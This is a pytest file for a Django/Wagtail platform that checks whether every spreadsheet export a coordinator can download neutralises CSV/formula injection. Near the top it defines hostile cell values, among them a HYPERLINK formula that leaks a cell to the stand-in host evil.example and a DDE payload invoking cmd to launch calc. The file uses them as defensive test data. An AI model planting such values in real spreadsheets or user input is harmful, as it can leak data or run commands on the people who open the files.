"""Every spreadsheet a coordinator can download, with hostile text in the data: no cell is a
formula unless the platform wrote it (issue 15, "Done when").

The exports are found, not listed by hand: every URL route that ends in .csv or .xlsx, and
every Wagtail admin view that offers ?export=csv|xlsx (reports, listings with list_export).
EXPORTS declares how to reach each one; a new export that is not declared fails
test_every_export_is_declared, and the authorization matrix fails for any URL that answers
a spreadsheet without being declared here (tests/authorization/test_matrix.py).
"""

import csv
import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from django.apps import apps
from django.db import transaction
from django.urls import URLPattern, URLResolver, get_resolver
from django.utils import timezone

from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.contrib.forms.models import FormMixin
from wagtail.log_actions import log

from attendance.models import AttendanceRecord, Method, Status
from evaluations.models import Evaluation
from tests.curriculum.factories import build_site
from tests.evaluations.conftest import add_questions, answer_as
from tests.factories import (
    CohortFactory,
    EnrolmentFactory,
    OrganisationFactory,
    SessionFactory,
    TeamFactory,
    UserFactory,
    bangkok_morning,
)

pytestmark = pytest.mark.django_db

# What a learner (or anyone typing into the platform) may type: each starts a formula.
LINK = '=HYPERLINK("http://evil.example/?leak="&D3,"Open")'
HOSTILE = [LINK, "+1+cmd|' /C calc'!A0", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=2+2"]
STARTS = ("=", "+", "-", "@", "\t", "\r")

CSV, XLSX = "csv", "xlsx"
WAGTAIL_FORMATS = (CSV, XLSX)
# route -> (how its address is filled in from the data, the formats it answers in)
EXPORTS = {
    "cohorts/<slug:slug>/attendance.csv": (
        lambda d: f"/cohorts/{d['cohort'].slug}/attendance.csv",
        (CSV,),
    ),
    "admin/attendance/cohort/<int:pk>/attendance.xlsx": (
        lambda d: f"/admin/attendance/cohort/{d['cohort'].pk}/attendance.xlsx",
        (XLSX,),
    ),
    "admin/evaluations/results/<int:pk>/results.xlsx": (
        lambda d: f"/admin/evaluations/results/{d['evaluation'].pk}/results.xlsx",
        (XLSX,),
    ),
    "admin/reporting/dashboard.xlsx": (lambda d: "/admin/reporting/dashboard.xlsx", (XLSX,)),
    **{
        f"admin/{path}": (lambda d, path=path: f"/admin/{path}", WAGTAIL_FORMATS)
        for path in (
            "reports/site-history/",
            "reports/site-history/results/",
            "reports/aging-pages/",
            "reports/aging-pages/results/",
            "reports/locked/",
            "reports/locked/results/",
            "reports/workflow/",
            "reports/workflow/results/",
            "reports/workflow_tasks/",
            "reports/workflow_tasks/results/",
            "redirects/",
            "redirects/results/",
        )
    },
}
# Coordinators cannot download these at all (superusers only; the locked pages report needs
# the unlock permission, which no role holds; tests/authorization).
NOT_FOR_COORDINATORS = {
    "admin/redirects/",
    "admin/redirects/results/",
    "admin/reports/locked/",
    "admin/reports/locked/results/",
}
# Each of these must carry at least one of the hostile texts, so the check below has teeth.
CARRIES_HOSTILE_TEXT = {
    "cohorts/<slug:slug>/attendance.csv",
    "admin/attendance/cohort/<int:pk>/attendance.xlsx",
    "admin/evaluations/results/<int:pk>/results.xlsx",
    "admin/reporting/dashboard.xlsx",
    "admin/reports/site-history/",
    "admin/reports/aging-pages/",
}


def _walk(patterns, prefix=""):
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            yield from _walk(pattern.url_patterns, prefix + str(pattern.pattern))
        elif isinstance(pattern, URLPattern):
            yield prefix + str(pattern.pattern), pattern.callback


def _offers_export(callback) -> bool:
    view_class = getattr(callback, "view_class", None)
    return bool(
        view_class and issubclass(view_class, SpreadsheetExportMixin) and view_class.list_export
    )


def export_routes() -> set[str]:
    """Every route that hands out a spreadsheet: by its suffix, or Wagtail's export mixin."""
    return {
        route
        for route, callback in _walk(get_resolver().url_patterns)
        if route.endswith((".csv", ".xlsx")) or _offers_export(callback)
    }


def test_every_export_is_declared():
    assert export_routes() == set(EXPORTS)


def test_no_wagtail_form_page_exists_whose_submissions_export_is_not_covered():
    """Wagtail's form submissions export (its list_export is set per page) needs a form page
    model; the platform has none. Adding one must add its export above."""
    assert not [model for model in apps.get_models() if issubclass(model, FormMixin)]


@pytest.fixture(scope="module")
def hostile(django_db_setup, django_db_blocker):
    """Built once for the module, rolled back at its end (each test runs in a savepoint)."""
    with django_db_blocker.unblock(), transaction.atomic():
        yield _hostile_data(UserFactory(roles=["Coordinator"], title_prefix="นางสาว"))
        transaction.set_rollback(True)


def _hostile_data(coordinator) -> dict:
    """A cohort where every text a person types starts a formula, with attendance, an
    evaluation answered with such comments, and admin history naming such a person."""
    link, plus, minus, at, tab, cr = HOSTILE
    cohort = CohortFactory(title_th=f"{plus} รุ่นพิเศษ")
    organisation = OrganisationFactory(name_th=at)
    team = TeamFactory(cohort=cohort, name=minus, organisation=organisation)
    learner = UserFactory(
        roles=["Learner"], title_prefix="", title_prefix_en="", first_name=link,
        first_name_en=plus, position=at, organisation=organisation,
    )  # fmt: skip
    enrolment = EnrolmentFactory(cohort=cohort, team=team, user=learner)
    session = SessionFactory(cohort=cohort, starts_at=bangkok_morning(0))
    AttendanceRecord.objects.create(
        enrolment=enrolment, session=session, day=timezone.localdate(session.starts_at),
        status=Status.PRESENT, method=Method.QR,
    )  # fmt: skip
    evaluation = Evaluation.objects.create(
        cohort=cohort, title_th=cr, opens_at=timezone.now() - dt.timedelta(hours=1), days_open=7
    )
    add_questions(evaluation)
    answer_as(evaluation, enrolment, comment=tab)
    for comment in HOSTILE:
        answer_as(evaluation, EnrolmentFactory(cohort=cohort, team=team), comment=comment)
    _history(learner=learner, enrolment=enrolment, coordinator=coordinator)
    return {"cohort": cohort, "evaluation": evaluation, "coordinator": coordinator}


def _history(*, learner, enrolment, coordinator):
    """What the admin records: an edit of the learner's enrolment (its label starts with the
    learner's name), a page with such a title published and locked by a staff member with
    such a name."""
    log(instance=enrolment, action="wagtail.edit", user=coordinator)
    page = build_site()["programme"]
    page.title = HOSTILE[3]
    staff = UserFactory(roles=["Coordinator"], title_prefix="", first_name=HOSTILE[3])
    page.save_revision(user=staff).publish(user=staff)
    page.refresh_from_db()
    page.locked, page.locked_by, page.locked_at = True, staff, timezone.now()
    page.save()
    log(instance=page, action="wagtail.lock", user=learner)


def _looks_like_a_formula(text: str) -> bool:
    """Independent of core.exports: text a spreadsheet would evaluate (a number is a number)."""
    if not text.startswith(STARTS) or not text.strip("-"):
        return False
    try:
        float(text)
    except ValueError:
        return True
    return False


def _csv_cells(content: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    return [cell for row in rows for cell in row]


def _check_csv(content: bytes) -> list[str]:
    """Every cell: never formula-like; the hostile ones found (as the neutralised text)."""
    cells = _csv_cells(content)
    live = [cell for cell in cells if _looks_like_a_formula(cell)]
    assert not live, f"formula cells in the CSV: {live}"
    return [cell[1:] for cell in cells if cell.startswith("'") and _looks_like_a_formula(cell[1:])]


def _check_xlsx(content: bytes) -> list[str]:
    """Every cell of every sheet: no formula cell; formula-like text is a quoted string."""
    book = load_workbook(io.BytesIO(content))
    found = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str) and _looks_like_a_formula(cell.value):
                    where = f"{sheet.title}!{cell.coordinate} {cell.value!r}"
                    assert cell.data_type == "s" and cell.quotePrefix, f"live text at {where}"
                    found.append(cell.value)
    return found


def _carries_hostile(found: list[str]) -> bool:
    return any(text.startswith(hostile) for text in found for hostile in HOSTILE)


def _export_cases():
    for route, (_address, formats) in EXPORTS.items():
        for fmt in formats:
            yield pytest.param(route, fmt, id=f"{route}-{fmt}")


@pytest.mark.parametrize(("route", "fmt"), list(_export_cases()))
def test_no_cell_of_any_export_is_a_formula_the_platform_did_not_write(client, hostile, route, fmt):
    address, _formats = EXPORTS[route]
    url = address(hostile)
    if not route.endswith((".csv", ".xlsx")):
        url += f"?export={fmt}"
    client.force_login(hostile["coordinator"])
    response = client.get(url)
    if route in NOT_FOR_COORDINATORS:
        assert response.status_code in (302, 403)
        return
    assert response.status_code == 200, url
    content = b"".join(response.streaming_content) if response.streaming else response.content
    found = _check_csv(content) if fmt == CSV else _check_xlsx(content)
    if route in CARRIES_HOSTILE_TEXT:
        assert _carries_hostile(found), f"no hostile text in {url}"
